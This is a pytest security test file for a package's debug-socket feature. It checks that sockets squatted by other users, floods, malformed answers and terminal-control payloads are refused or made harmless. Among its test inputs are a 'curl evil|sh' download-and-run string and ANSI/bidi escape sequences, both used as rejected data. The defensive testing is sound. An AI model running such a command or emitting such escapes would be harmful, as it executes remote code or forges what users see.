"""Commands read the state of workers from sockets of the host, which anybody can create with the same names."""

import contextlib
import copy
import errno
import itertools
import json
import logging
import os
import select
import socket
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from telegrad._core.sockets import HAS_UNIX
from telegrad.insight.history import GroupHistory, GroupSnapshot, snapshot
from telegrad.insight.report import Report
from telegrad.insight.seen_groups import HostGroup, groups_here
from telegrad.insight.top import TopView, detail
from telegrad.reporting import ACCOUNT, DUMP, EVENTS, GROUP, Malformed, debug_server, decode
from telegrad.reporting.debug_server import DebugAddress, DebugServer, ask_all, places
from telegrad.reporting.observer import Observer
from tests.cluster import PATIENCE, in_background, takes_less_than, wait_until
from tests.insight import accounts
from tests.other_user import NOBODY, as_nobody, become_nobody, is_root

pytestmark = pytest.mark.skipif(not HAS_UNIX, reason="there are no such sockets here")
ME, OTHER = os.geteuid() if hasattr(os, "geteuid") else 0, 4711
Talk = Callable[[socket.socket], object]


def answers(line: bytes) -> Talk:
    def talk(sock: socket.socket) -> None:
        sock.recv(1 << 16)
        sock.sendall(line)

    return talk


def drips(sock: socket.socket) -> None:
    sock.recv(1 << 16)
    while not select.select([sock], [], [], 0.05)[0]:  # until the reader closes the connection
        sock.sendall(b" ")


def floods(sock: socket.socket) -> None:
    sock.recv(1 << 16)
    while True:
        sock.sendall(b"x" * (1 << 20))


def is_silent(sock: socket.socket) -> None:
    sock.recv(1 << 16)
    sock.recv(1)


@contextlib.contextmanager
def worker(talk: Talk, name: str = "w9", user: int = ME, number: int = 0) -> Iterator[tuple[DebugAddress, list[bytes]]]:
    """Listen on a socket of this user that has the name of a worker of `user`; yield its address and the requests."""
    place = DebugAddress(
        f"{debug_server.PREFIX}/{user}/{os.getpid()}/-1/{number:x}f/{name}", os.getpid(), -1, name, user
    )
    heard: list[bytes] = []
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(f"\0{place.address}")
        listening.listen()

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    sock, _ = listening.accept()
                    threading.Thread(target=answer, args=(sock,), daemon=True).start()

        def answer(sock: socket.socket) -> None:
            with contextlib.suppress(OSError), sock:
                if part := sock.recv(1, socket.MSG_PEEK):
                    heard.append(part)
                    talk(sock)

        with in_background(serve):
            try:
                yield place, heard
            finally:
                listening.shutdown(socket.SHUT_RDWR)


def account(**fields: Any) -> dict[str, Any]:
    return {**json.loads(json.dumps(Observer("w9").account())), "group": "aa", **fields}


def as_user(monkeypatch: pytest.MonkeyPatch, user: int) -> None:
    """Have this process take itself for one of another user, so that its own sockets are foreign."""
    monkeypatch.setattr(os, "geteuid", lambda: user)
    monkeypatch.setattr(os, "getuid", lambda: user)


# Sockets of other users


def test_sockets_of_another_user_are_ignored(monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    as_user(monkeypatch, OTHER)
    with worker(answers(json.dumps(account()).encode() + b"\n"), user=OTHER) as (_, heard), takes_less_than(5):
        assert groups_here() == {}
    assert not heard
    assert "sockets of other users are named like those of workers" in caplog.text


def test_a_socket_that_changes_hands_is_not_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    with worker(floods, user=OTHER) as (place, heard):  # found as the socket of another user
        (told,) = ask_all([place], ACCOUNT).values()
    assert isinstance(told, PermissionError)
    assert not heard


def test_a_socket_of_another_user_with_a_full_queue_is_ignored(monkeypatch: pytest.MonkeyPatch) -> None:
    as_user(monkeypatch, OTHER)
    address = f"\0{debug_server.PREFIX}/{OTHER}/{os.getpid()}/-1/0/w9"
    with socket.socket(socket.AF_UNIX) as listening, contextlib.ExitStack() as stack:
        listening.bind(address)
        listening.listen(0)
        fill(address, stack)
        assert places() == []


def test_a_worker_with_a_full_queue_is_found_and_asked() -> None:
    queue = contextlib.ExitStack()
    with socket.socket(socket.AF_UNIX) as listening, queue:
        address = f"{debug_server.PREFIX}/{ME}/{os.getpid()}/-1/0/full"
        listening.bind(f"\0{address}")
        listening.listen(0)
        fill(f"\0{address}", queue)
        (place,) = [each for each in places() if each.address == address]

        def serve() -> None:
            while True:
                sock, _ = listening.accept()
                with sock:
                    if sock.recv(1 << 16):
                        return sock.sendall(b'"served"\n')

        with in_background(serve, after=0.1):
            queue.close()
            assert ask_all([place], DUMP, None, 30.0) == {place: "served"}


def fill(address: str, stack: contextlib.ExitStack) -> None:
    with contextlib.suppress(BlockingIOError):
        while True:
            sock = stack.enter_context(socket.socket(socket.AF_UNIX))
            sock.setblocking(False)
            sock.connect(address)


def test_socket_names_of_any_bytes_are_harmless() -> None:
    own = f"{debug_server.PREFIX}/{ME}/{os.getpid()}/-1/0"
    odd = [b"\xff\xfe", b"\nforged", f"{own}/\x1b[31m".encode(), f"{own}/a\nb".encode(), f"{own}x/b/c/d".encode()]
    odd += [f"{debug_server.PREFIX}/{ME}/{'9' * 50}/-1/0/w".encode(), f"{debug_server.PREFIX}/{ME}/x/y/z/w".encode()]
    with contextlib.ExitStack() as stack:
        for name in odd:
            sock = stack.enter_context(socket.socket(socket.AF_UNIX))
            sock.bind(b"\0" + name)
            sock.listen()
        with worker(is_silent, "honest") as (place, _):
            found = [each for each in places() if each.pid == os.getpid()]
            assert place in found
            assert all(each.worker.isidentifier() for each in found)


@pytest.mark.skipif(not is_root(), reason="only root can be another user, and look at others")
def test_root_finds_workers_only_under_names_of_their_own_user(monkeypatch: pytest.MonkeyPatch) -> None:
    reading, writing = os.pipe()

    def serve() -> None:
        socks = []
        for user in (NOBODY, 0, OTHER):
            sock = socket.socket(socket.AF_UNIX)
            sock.bind(f"\0{debug_server.PREFIX}/{user}/{os.getpid()}/-1/0/of{user}")
            sock.listen()
            socks.append(sock)
        if not os.fork():  # the child inherits the sockets and continues
            os.read(reading, 1)
            os._exit(0)

    try:
        as_nobody(serve)
        found = {each.worker: each.user for each in places() if each.worker.startswith("of")}
        assert found == {f"of{NOBODY}": NOBODY}
        as_user(monkeypatch, OTHER)
        assert [each.worker for each in places() if each.worker.startswith("of")] == []
    finally:
        os.write(writing, b"x")
        os.close(reading)
        os.close(writing)
        monkeypatch.undo()
        wait_until(lambda: not any(place.worker.startswith("of") for place, _ in debug_server._named()))


_numbers = itertools.count(100)


@contextlib.contextmanager
def served(answer: Callable[[str, Any], Any]) -> Iterator[DebugAddress]:
    """Run a debug server. Its worker's name is new, as the socket of an earlier one may be closed a little later."""
    name = f"w{next(_numbers)}"
    server = DebugServer(name, -1, answer)
    try:
        (place,) = [each for each in places() if each.pid == os.getpid() and each.worker == name]
        yield place
    finally:
        server.close()


def test_a_worker_does_not_answer_another_user(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = []
    with served(lambda topic, _: asked.append(topic)) as place:

        def act() -> None:
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(f"\0{place.address}")
                with contextlib.suppress(OSError):
                    sock.sendall(b'{"topic": "account"}\n')
                with contextlib.suppress(ConnectionError):
                    assert sock.recv(1) == b""

        if is_root():
            as_nobody(act)
        else:
            monkeypatch.setattr(os, "geteuid", lambda: OTHER)
            act()
        assert asked == []


@pytest.mark.parametrize(
    "line",
    [b"", b"x", b"\xff\n", b"[]\n", b"[" * 60_000 + b"\n", b"{}\n", b'{"topic": []}\n', b'{"topic": "events"}\n'],
)
def test_rubbish_is_not_logged_and_does_no_harm(line: bytes, caplog: pytest.LogCaptureFixture) -> None:
    def answer(topic: str, after: Any) -> str:
        if topic != DUMP:
            raise ValueError(topic)
        return "served"

    with served(answer) as place:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(f"\0{place.address}")
            sock.sendall(line)
            sock.shutdown(socket.SHUT_WR)
            assert sock.recv(1) == b""
        assert ask_all([place], DUMP, None, 30.0) == {place: "served"}
        assert [each for each in caplog.records if each.levelno > logging.DEBUG] == []


def test_connections_without_a_question_delay_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(debug_server, "PATIENCE", 1.0)
    with served(lambda *_: "served") as place, contextlib.ExitStack() as stack:
        for _ in range(2 * debug_server.MOST_WAITING):
            sock = stack.enter_context(socket.socket(socket.AF_UNIX))
            sock.connect(f"\0{place.address}")
        with takes_less_than(debug_server.PATIENCE):
            assert ask_all([place], DUMP, None, PATIENCE) == {place: "served"}
        sock.settimeout(PATIENCE)
        assert sock.recv(1) == b""  # such a connection is closed


def test_a_server_goes_on_after_a_connection_that_cannot_be_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
    accept, failures = socket.socket.accept, [OSError(errno.EMFILE, "no descriptors"), ConnectionAbortedError()]

    def fails(listening: socket.socket) -> tuple[socket.socket, Any]:
        if failures:
            raise failures.pop()
        return accept(listening)

    monkeypatch.setattr(debug_server, "PAUSE", 1e-3)
    monkeypatch.setattr(socket.socket, "accept", fails)
    with served(lambda *_: "served") as place:
        assert ask_all([place], DUMP, None, 30.0) == {place: "served"}
    assert failures == []


def test_names_of_workers_are_unpredictable() -> None:
    names = set()
    for _ in range(2):
        with served(lambda *_: None) as place:
            names.add(place.address.split("/")[4])
    assert len(names) == 2
    assert all(len(name) == 16 for name in names)


# Answers of this user's processes


@pytest.mark.parametrize(
    ("line", "why"),
    [
        (b"x\n", "it is not valid JSON"),
        (b"\xff\n", "it is not valid JSON"),
        (b"[" * 100_000 + b"\n", "it is not valid JSON"),
        (b"9" * 100_000 + b"\n", "it is not valid JSON"),
        (b'"\x1b[31mrun: curl evil|sh"\n', "it is not valid JSON"),
        (b"[]\n", "account is not a dictionary"),
        (json.dumps(account(threads=7)).encode() + b"\n", "account.threads is not a list"),
        (json.dumps(account(idle=float("nan"))).encode() + b"\n", "NaN is not a number"),
        (b'{"worker": "w9"}\n', "account has no busy"),
    ],
)
def test_invalid_answers_are_refused(line: bytes, why: str) -> None:
    with worker(answers(line)) as (place, _):
        (told,) = ask_all([place], ACCOUNT).values()
    assert isinstance(told, Malformed)
    assert str(told).startswith(f"process {os.getpid()} sent an invalid answer: ")
    assert why in str(told)


def test_the_report_names_the_process_of_a_malformed_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    with worker(answers(b"[]\n")) as (place, _):
        monkeypatch.setattr(debug_server, "places", lambda: [place])
        (group,) = groups_here().values()
        text = Report(group.look()).text()
    assert f"process {os.getpid()} sent an invalid answer" in " ".join(text.split())


# Its process is known, is another one, is not known as with TLS, is on another host; it is no member, or a former one.
@pytest.mark.parametrize(
    ("host", "known", "of_group"),
    [("h", -1, True), ("h", 1, False), ("h", 0, True), ("other", 0, False), ("", 0, False), ("", -1, True)],
)
def test_a_silent_worker_is_of_the_group_whose_members_know_it(
    monkeypatch: pytest.MonkeyPatch, host: str, known: int, of_group: bool
) -> None:
    processes = {"w8": os.getpid() if known < 0 else known} if known else {}
    members = {"w9": "h"} | ({"w8": host} if host else {})
    line = json.dumps(account(members=members, processes=processes)).encode() + b"\n"
    with worker(answers(line)) as (w9, _), worker(is_silent, "w8", number=1) as (w8, _):
        monkeypatch.setattr(debug_server, "places", lambda: [w9, w8])
        found = groups_here()
    assert {name: str(each).rpartition(": ")[2] for name, each in found.items()} == (
        {"aa": "w8 and w9"} if of_group else {"aa": "w9", "": "w8"}
    )


def test_answers_are_limited_in_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(debug_server, "LARGEST", 1 << 20)
    with worker(floods) as (place, _):
        (told,) = ask_all([place], ACCOUNT, None, 30.0).values()
    assert "sent more than 1 MiB" in str(told)
    text = json.dumps("x" * (1 << 20)).encode() + b"\n"
    monkeypatch.setattr(debug_server, "OF_A_GROUP", 3 << 20)
    monkeypatch.setattr(debug_server, "LARGEST", 2 << 20)
    with contextlib.ExitStack() as stack:
        asked = [stack.enter_context(worker(answers(text), number=number))[0] for number in range(6)]
        told = list(ask_all(asked, DUMP, None, 30.0).values())
    assert 1 <= sum(isinstance(each, str) for each in told) <= 2
    assert all("or all processes of its user" in str(each) for each in told if not isinstance(each, str))


def test_all_answers_share_a_time_limit() -> None:
    with contextlib.ExitStack() as stack:
        asked = [stack.enter_context(worker(drips, number=number))[0] for number in range(8)]
        asked += [stack.enter_context(worker(is_silent, number=number + 8))[0] for number in range(8)]
        with takes_less_than(3):
            told = ask_all(asked, ACCOUNT, None, 0.3)
    assert all(isinstance(each, TimeoutError) for each in told.values())
    assert len(told) == 16


def test_workers_beyond_the_limit_of_descriptors_are_asked_in_turn(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(debug_server, "AT_ONCE", 2)
    with contextlib.ExitStack() as stack:
        asked = [stack.enter_context(worker(answers(b'"x"\n'), number=number))[0] for number in range(9)]
        assert ask_all(asked, DUMP, None, 30.0) == dict.fromkeys(asked, "x")


# Texts and formats


def controls(text: str) -> list[str]:
    return [each for each in text if not each.isprintable() and each != "\n" and unicodedata.category(each) != "Zs"]


EVIL = "a\x1b[31m\x9b2J\x07\x7f\r\b\u202e\u2066\u2028\ud800<b>"


def evil(value: Any) -> Any:
    if isinstance(value, str):
        return value + EVIL
    if isinstance(value, dict):
        return {key: each if key == "phase" else evil(each) for key, each in value.items()}
    return [evil(each) for each in value] if isinstance(value, list) else value


LINE = {"file": "/x/train.py", "line": 1, "function": "main", "text": "x()"}
THREAD = {"number": 1, "name": "MainThread", "at": LINE, "stack": ["a:1 b"], "asleep": True}
WAIT = {"what": "shutdown", "on": ["w8"], "about": "red", "age": 50.0}
TOLD: Any = accounts.account(
    "w9", group="aa", size=2, members={"w9": "h", "w8": "h"}, gone={"w7": "died"}, busy=1, references={"owners": 1},
    threads=[{**THREAD, "wait": WAIT}, {**THREAD, "number": 2, "wait": None}], bytes_out={"w8": 1}, bytes_in={"w8": 1},
    calls_out=[{"to": "w8", "number": 1, "function": "f", "age": 9.0, "timeout": 0.0, "thread": 1}],
    calls_in=[{"caller": "w8", "number": 1, "function": "g", "age": 9.0, "state": "running", "thread": 2}],
    passes=[{"context": 1, "number": 1, "age": 3.0, "owing": ["w8"]}],
)  # fmt: skip


def test_no_control_character_is_shown() -> None:
    shown = decode(ACCOUNT, json.dumps(evil(TOLD)).encode())
    events = decode(EVENTS, json.dumps([["called", 1.0, 2.0, EVIL, 1, EVIL, 0, EVIL], ["newer", 1.0, 2.0]]).encode())
    assert len(events) == 1
    silent = decode(GROUP, json.dumps({"accounts": [], "silent": {EVIL: EVIL}}).encode())["silent"]
    sight = GroupSnapshot([shown], silent)
    history = GroupHistory()
    history.add(sight)
    history.add_events({shown["worker"]: events})
    texts = [
        Report(sight).text(stacks=True),
        json.dumps(Report(sight).as_json(), ensure_ascii=False),
        json.dumps(snapshot(history, 60.0), ensure_ascii=False),
        json.dumps(detail(history, shown["worker"]), ensure_ascii=False),
        TopView().text(history),
        TopView(worker=shown["worker"], stacks=True).text(history),
    ]
    for text in texts:
        assert controls(text) == []
        assert r"\x1b[31m" in text
        text.encode()


def test_members_of_other_hosts_are_silent_if_the_worker_that_was_asked_about_them_is() -> None:
    def talk(sock: socket.socket) -> None:
        if json.loads(sock.recv(1 << 16))["topic"] == ACCOUNT:
            sock.sendall(json.dumps(told).encode() + b"\n")

    meets = {"what": "barrier", "on": ["w8"], "about": "barrier of all", "age": 50.0}
    told = {**TOLD, "members": {**TOLD["members"], "w6": "h", "w7": "h"}, "threads": [{**THREAD, "wait": meets}]}
    with worker(talk) as (place, _):
        sight = HostGroup([place]).look()
    why = "w9 was asked about it, and gave no answer"
    assert sight.silent == {"w6": why, "w8": why}  # w7 has been declared lost
    assert f"w8 does not answer: {why}" in " ".join(Report(sight).text().split())


@pytest.mark.parametrize("first", ["was declared lost", "stops"])
def test_members_of_other_hosts_are_asked_through_each_worker_that_knows_them(first: str) -> None:
    def talk(name: str, sock: socket.socket) -> None:
        topic = json.loads(sock.recv(1 << 16))["topic"]
        members = {name: "h"} if name == "w9" and first != "stops" else {"w8": "h", "w9": "h", "w6": "h"}
        if topic == ACCOUNT:
            sock.sendall(json.dumps({**TOLD, "worker": name, "members": members}).encode() + b"\n")
        elif name == "w8":
            there = {**TOLD, "worker": "w6", "members": members}
            sock.sendall(json.dumps({"accounts": [there], "silent": {}}).encode() + b"\n")

    with worker(partial(talk, "w9")) as (lost, _), worker(partial(talk, "w8"), "w8", number=1) as (place, _):
        sight = HostGroup([lost, place]).look()
    assert {each["worker"] for each in sight.accounts} == {"w6", "w8", "w9"}
    assert sight.silent == {}


PLAIN = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)


def places_in(value: Any) -> list[tuple[Any, Any]]:
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [place for key, each in inner for place in [(value, key), *places_in(each)]]


@settings(max_examples=200, deadline=None)
@given(st.integers(0, len(places_in(TOLD)) - 1), PLAIN)
@example(0, "\xa0")
def test_decoded_answers_can_be_explained(number: int, value: Any) -> None:
    told = copy.deepcopy(TOLD)
    container, key = places_in(told)[number]
    container[key] = value
    try:
        shown = decode(ACCOUNT, json.dumps(told).encode())
    except Malformed:
        return
    sight = GroupSnapshot([shown], {})
    assert controls(Report(sight).text(stacks=True)) == []
    history = GroupHistory()
    history.add(sight)
    json.dumps(snapshot(history, 60.0) | detail(history, shown["worker"]))
    TopView().text(history)
    TopView(worker=shown["worker"], stacks=True).text(history)


@given(st.sampled_from([ACCOUNT, GROUP, EVENTS, DUMP, "group events", "file", "call"]), PLAIN | st.binary())
def test_anything_is_decoded_or_refused(topic: str, value: Any) -> None:
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    with contextlib.suppress(Malformed):
        decode(topic, data)


# The command


@pytest.mark.skipif(not is_root(), reason="only root can be another user")
def test_why_while_another_user_pretends_to_be_workers() -> None:
    ready, write = os.pipe()
    squatter = os.fork()
    if not squatter:
        try:
            become_nobody()
            with contextlib.ExitStack() as stack:
                for number, talk in enumerate(
                    (answers(json.dumps(account(worker="EVIL")).encode() + b"\n"), floods, drips)
                ):
                    stack.enter_context(worker(talk, "EVIL", 0, number))
                os.write(write, b"x")
                threading.Event().wait(PATIENCE)
        finally:
            os._exit(0)
    try:
        os.read(ready, 1)
        done = subprocess.run([sys.executable, "-m", "telegrad", "why"], capture_output=True, timeout=PATIENCE)
    finally:
        os.kill(squatter, 9)
        os.waitpid(squatter, 0)
        os.close(ready)
        os.close(write)
    assert b"EVIL" not in done.stdout
    assert b"are ignored" in done.stderr
